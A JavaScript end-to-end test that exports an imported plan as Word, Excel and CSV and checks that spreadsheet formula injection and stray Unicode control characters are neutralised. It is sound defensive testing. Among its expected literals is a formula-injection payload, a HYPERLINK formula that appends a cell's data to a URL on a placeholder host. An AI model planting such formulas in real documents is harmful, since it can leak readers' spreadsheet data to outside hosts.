// A received plan whose text is hostile (tests/fixtures/hostile/hostile-text.json: cells that a
// spreadsheet would take for formulas, U+FFFE/U+FFFF, an open U+202E) is imported through the
// dialog, then saved from the print view as Word, Excel and CSV, and each file is opened by
// LibreOffice headless as the office would: the Word file must open and hold the text, and no
// cell of the workbook or of the CSV may become a formula.
import assert from "node:assert/strict";
import { mkdirSync, readFileSync, readdirSync, rmSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { OUTPUT, ROOT, importFile, screenshot, withApp } from "./harness.mjs";
import { run } from "./pdf.mjs";

const FIXTURE = join(ROOT, "tests/fixtures/hostile/hostile-text.json");
const FOLDER = join(OUTPUT, "hostile-export");

/** Converts `path` with LibreOffice headless to `format` in a folder of its own; returns the new file. */
function convert(path, format, name, infilter) {
  const out = join(FOLDER, name);
  mkdirSync(out, { recursive: true });
  const args = [
    `-env:UserInstallation=file://${join(FOLDER, "profile")}`,
    "--headless",
    ...(infilter ? [`--infilter=${infilter}`] : []),
    "--convert-to",
    format,
    "--outdir",
    out,
    path,
  ];
  run("libreoffice", args);
  const made = readdirSync(out);
  assert.equal(made.length, 1, `LibreOffice wrote ${made.join(", ") || "nothing"} from ${path}`);
  return join(out, made[0]);
}

/** The first worksheet of an .xlsx: its XML, and its cells' texts (shared strings and inline). */
function firstSheet(xlsx) {
  const sheet = run("unzip", ["-p", xlsx, "xl/worksheets/sheet1.xml"]);
  let strings = "";
  try {
    strings = run("unzip", ["-p", xlsx, "xl/sharedStrings.xml"]);
  } catch {
    // A workbook with inline strings only has no shared strings part.
  }
  const decode = (text) =>
    text.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, "&");
  const texts = [...(strings + sheet).matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map((match) => decode(match[1]));
  return { sheet, texts };
}

/** Each formula-like text of the fixture must come back as words, with or without the `'`. */
function assertLiteral(texts, where) {
  for (const literal of ["=1+41", "@SUM(1+1)", "-2+3", '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Bấm vào đây")']) {
    assert.ok(
      texts.some((text) => text === literal || text === `'${literal}`),
      `${where}: «${literal}» is kept as text (found ${JSON.stringify(texts.slice(0, 12))}…)`,
    );
  }
}

test("a hostile received plan saves as Word, Excel and CSV that LibreOffice opens, with no formula", async () => {
  rmSync(FOLDER, { recursive: true, force: true });
  mkdirSync(FOLDER, { recursive: true });
  await withApp(async (app) => {
    const page = app.page;
    await page.waitForSelector("#app[data-mounted=true]");
    await importFile(page, FIXTURE);
    const report = await page.textContent("[data-testid=import-report]");
    assert.match(report, /ký tự đổi hướng chữ \(U\+202E\) không được đóng lại, đã bỏ đi/);
    assert.match(report, /ký tự không dùng trong văn bản \(U\+FFFE\), đã bỏ đi/);
    await page.click("[data-testid=import-confirm]");
    await page.waitForSelector("[data-testid=import-dialog]", { state: "detached" });
    await page.click("[data-testid=open-plan]");
    await page.waitForSelector("[data-testid=open-print]");
    await page.click("[data-testid=open-print]");
    await page.waitForSelector("[data-testid=print-document]");
    await screenshot(page, "hostile-export-print-1280x800");
    const save = async (testid) => {
      const [download] = await Promise.all([page.waitForEvent("download"), page.click(`[data-testid=${testid}]`)]);
      const name = download.suggestedFilename();
      assert.match(name, /^Ke-hoach-CCHC-2022-UBND-xa-Son-Chau-\d{4}-\d{2}-\d{2}\.(docx|xlsx|csv)$/);
      const path = join(FOLDER, name);
      await download.saveAs(path);
      return path;
    };
    const docx = await save("save-docx");
    const xlsx = await save("save-xlsx");
    const csv = await save("save-csv");
    assert.equal(await page.locator("[data-testid=docx-error]").count(), 0);
    assert.deepEqual(app.errors, []);

    // Word: LibreOffice opens it (a malformed document.xml makes it refuse) and the text is there.
    const text = readFileSync(convert(docx, "txt:Text", "docx-text"), "utf8");
    assert.ok(text.includes("Chỉ đạo thực hiện có hiệu quả các nhiệm vụ CCHC"), "the task, its non-characters gone");
    assert.ok(text.includes("=1+41"), "the formula-like task, as words");
    assert.ok(!/[\uFFFE\uFFFF\u202E]/.test(text));

    // Excel: the workbook opens, and its cells are text, never formulas.
    const fromXlsx = firstSheet(convert(xlsx, "xlsx", "xlsx-again"));
    assert.ok(!fromXlsx.sheet.includes("<f>") && !fromXlsx.sheet.includes("<f "), "no formula cell in the workbook");
    assertLiteral(fromXlsx.texts, "xlsx");

    // CSV: read by Calc as a spreadsheet would, comma-separated UTF-8 with formulas evaluated,
    // and saved again as a workbook: no cell became a formula or its value.
    const fromCsv = firstSheet(convert(csv, "xlsx", "csv-as-xlsx", "CSV:44,34,76,1"));
    assert.ok(!fromCsv.sheet.includes("<f>") && !fromCsv.sheet.includes("<f "), "no formula cell from the CSV");
    // (A cell of shared text holds its string's index, t="s"; a number holds its value.)
    assert.ok(!/<c r="[A-Z]+\d+"(?: s="\d+")?><v>42<\/v>/.test(fromCsv.sheet), "=1+41 was not evaluated");
    assertLiteral(fromCsv.texts, "csv");
  });
});
